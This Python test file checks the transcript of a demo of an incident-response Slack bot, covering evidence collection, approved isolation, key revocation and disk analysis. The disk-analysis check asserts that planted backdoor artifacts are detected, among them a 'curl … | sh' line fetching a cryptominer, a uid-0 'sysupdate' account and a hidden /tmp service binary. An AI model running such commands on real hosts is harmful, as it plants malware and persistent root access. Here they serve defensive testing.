"""`irbot demo` as a user runs it: no Slack, no AWS account, no Redis server."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

IRBOT = str(Path(sys.executable).with_name("irbot"))


def test_demo_prints_the_transcript_and_exits_0_whatever_the_shell_has_set():
    env = {k: v for k, v in os.environ.items() if not k.startswith(("AWS_", "SLACK_", "IR_", "REDIS_"))}
    # A real account or workspace configured in the shell must never be touched by the demo.
    env.update({"AWS_ENDPOINT_URL": "http://127.0.0.1:9", "AWS_PROFILE": "production", "SLACK_API_URL": "http://127.0.0.1:9/api/", "REDIS_URL": "redis://127.0.0.1:9/0"})
    result = subprocess.run([IRBOT, "demo"], env=env, capture_output=True, text=True, timeout=180)
    assert result.returncode == 0, result.stderr
    out = result.stdout
    # It begins with a GuardDuty finding arriving, and the incident declared from its card.
    assert re.search(r"irbot: GuardDuty finding: EC2 instance i-[0-9a-f]{17} is querying a domain name", out)
    assert "alice: [clicks Declare incident on the finding card]" in out
    assert re.search(r"creates the private channel #ir-\d{8}-001-ec2-instance-i-[0-9a-f]{17}", out)
    assert "(pins the incident card)" in out
    assert "alice: /ir help" in out and "/ir collect <instance-id> [--region R]" in out
    assert "irbot (only mallory sees this): You (user ID U0MALLORY) are not on irbot's responder list" in out
    assert "Did you mean `/ir collect`?" in out
    assert re.search(r"irbot: Evidence from i-[0-9a-f]{17} \(123456789012, us-east-1\) collected for @alice: 8 objects", out)
    # The channel gets one message per request; its detail is marked as a reply in its thread, digests short.
    assert re.search(r"\n\[\d\d:\d\d\]     ↳ in thread: irbot: • instance\.json — [\d.]+ KiB — sha256 [0-9a-f]{12}… — <link to instance\.json>", out)
    assert not re.search(r"sha256 `?[0-9a-f]{13}", out)
    assert "Audit records" not in "\n".join(line for line in out.splitlines() if "irbot:" in line and "↳ in thread" not in line)
    assert "irbot (only alice sees this): Queued `/ir collect" in out and "results will follow here" not in out
    from standins.local_sshd import find_sshd

    if find_sshd():
        # The memory scene: one host captured over SSH, verified, into the bucket.
        assert re.search(r"alice: /ir memory \w+@127\.0\.0\.1:\d+", out)
        assert "1 of 1 target ended" in out and "— complete · 32.0 MiB of 32.0 MiB · sha256 `" in out
        assert re.search(r"↳ in thread: irbot: Memory capture for @alice", out)
    else:
        assert "(No memory scene: no OpenSSH server on this machine" in out
    from standins.disk_images import ATTACKER_KEY, MINER_URL, mkfs_ext4

    if mkfs_ext4():
        # The disk scene: web-1's snapshot imaged, then analysed in place; the card names the planted backdoor.
        assert re.search(r"Done: `/ir image i-[0-9a-f]{17}` in 123456789012, us-east-1, for @alice: 2 steps: 2 done", out)
        card = re.search(r"irbot: Done: `/ir analyze i-[0-9a-f]{17} --since 2025-03-09` .* — \d+ findings on 1 image \[4 of its \d+ lines shown\]\n"
                         r"((?: {8}.*\n){4})", out)
        assert card, "no analysis card"
        for planted in ("`sysupdate:x:0:0:", f"curl -fsSL {MINER_URL} | sh", "ExecStart=/tmp/.x/kworker", ATTACKER_KEY.split()[-1]):
            assert planted in card[1], (planted, card[1])
        assert "imaged, analyzed" in out
    else:
        assert "(No disk-analysis scene: mkfs.ext4 is not installed" in out
    # 8 from collect, the isolation record and its per-target copy, hunt-key's findings,
    # prep's readiness result, the final report kept at close, and the member account's isolation record and its copy;
    # the memory image and its custody; the disk image, its custody, its analysis and its Timesketch timeline.
    evidence = 15 + (2 if find_sshd() else 0) + (4 if mkfs_ext4() else 0)
    assert f"Evidence bucket s3://irbot-demo-evidence: {evidence} evidence objects, {evidence} of them match their sha256 metadata." in out
    # The two-person rule: alice's own approval is refused, bob's runs the stop.
    assert "alice: [clicks Approve" in out
    assert re.search(r"Done: `/ir isolate i-[0-9a-f]{17}` in 123456789012, us-east-1, requested by @alice", out)
    assert re.search(r"↳ in thread: irbot: \*Plan \(dry run, nothing changed yet\)\*\n +1\. 🔹 Record the current configuration", out)
    assert re.search(r"↳ in thread: irbot \(updates its reply\): \*Steps\*", out)
    assert "Cut eni-" in out and "(isolation)" in out
    assert re.search(r"Done: `/ir snapshot i-[0-9a-f]{17}` in 123456789012, us-east-1, for @alice: 3 steps: 3 done", out)
    # The leaked-key scene: what the key made far away, then the key revoked under approval.
    # hunt-key: one message naming the worst findings, the other findings' cards in its thread.
    assert re.search(r"\d+ findings, the worst 3:\n +• instance i-[0-9a-f]{17} in 123456789012, eu-west-1, made by the key", out)
    assert re.search(r"\n +• instance i-[0-9a-f]{17} in 123456789012, ap-southeast-2, made by the key", out)
    assert re.search(r"↳ in thread: irbot: Finding of /ir hunt-key AKIA[A-Z0-9]{16}: access-key", out)
    assert re.search(r"Done: `/ir revoke-key AKIA[A-Z0-9]{16}` in 123456789012, IAM \(global\), requested by @bob", out)
    assert "Deactivate AKIA" in out and "irbot-quarantine attached" in out
    assert "irbot (only alice sees this): You asked for this, so you can't approve it" in out
    assert "irbot (only mallory sees this): Only irbot's approvers" in out
    assert "Approved by @bob" in out
    # prep: the card's score and worst failing checks, every check folded into its thread; the Home tab then shows the score.
    assert re.search(r"\nScene: readiness .*\n=+\n\[\d\d:\d\d\] bob: /ir prep\n", out)
    score = re.search(r"irbot: Readiness (\d+)% \((\d+) of (\d+) checks pass\): `/ir prep` in 123456789012, us-east-1, for @bob\.\n(        ❌ .*\n){3}", out)
    assert score, "no readiness card"
    assert re.search(r"↳ in thread: irbot: ❌ \*.*\n(.*\n){2} +… \(\d+ lines in all, in the thread\)", out)
    assert f"Readiness — *{score[1]}%* — {score[2]} of {score[3]} checks passed in account 123456789012" in out
    # status and audit answer the asker alone.
    assert re.search(r"irbot \(only alice sees this\): \*Audit trail of IR-\d{8}-001\*", out)
    assert re.search(r"irbot \(only bob sees this\): :large_orange_circle: \*IR-\d{8}-001\*", out)
    # The card follows the work; the report is uploaded; the incident is closed.
    assert re.search(r"• `i-[0-9a-f]{17} \(123456789012, us-east-1\)`: collected, isolated, snapshotted", out)
    assert re.search(r"irbot \(updates the pinned incident card\): • `i-[0-9a-f]{17} \(123456789012, us-east-1\)`: collected ·", out)
    # The organization: a finding from member account 222222222222, isolated there from its card in #alerts.
    assert re.search(r"irbot: GuardDuty finding: .* account 222222222222, us-east-1, instance `i-[0-9a-f]{17}`", out)
    assert "bob: [clicks Isolate on the finding card]" in out
    assert re.search(r"Done: `/ir isolate i-[0-9a-f]{17}` in 222222222222, us-east-1, requested by @bob", out)
    assert re.search(r"saved to s3://irbot-demo-evidence/C0ALERTS01/222222222222/i-[0-9a-f]{17}/", out)
    assert "*Keys revoked*: `AKIA" in out and "status *CLOSED*" in out
    # close keeps and uploads the final report, which names people as Slack does
    assert re.search(r"\(uploads the file \"IR-\d{8}-001 final incident report\"\)", out)
    assert re.search(r"Commander: Alice \(U\w+\)", out) and "Status: closed" in out
    assert re.search(r"Audit trail \(as `irbot audit verify` checks it\): \d+ records, \d+ sealed batches, chain intact\.", out)
    assert '"level"' not in out and "Traceback" not in result.stderr
    # Quieter than before threads (338 lines, 30 top-level messages for the same story): at least a third shorter.
    # The lines allow 15 more for the /ir prep scene (title, command, card with 3 failing checks, its thread folded to
    # 4 lines, the pinned card's update) added after that count, and 15 for the disk scene (title, /ir image and /ir analyze
    # with their private replies, the analysis card's headline and 4 of its lines, each thread folded to a line, the
    # pinned card's two updates); the top-level messages stay within the third.
    top_level = [line for line in out.splitlines() if re.match(r"\[\d\d:\d\d\] irbot( in #\S+)?: (?!\((creates|pins|uploads) )", line)]
    assert len(out.splitlines()) <= 338 * 2 // 3 + 15 + 15 and len(top_level) <= 30 * 2 // 3, (len(out.splitlines()), len(top_level))
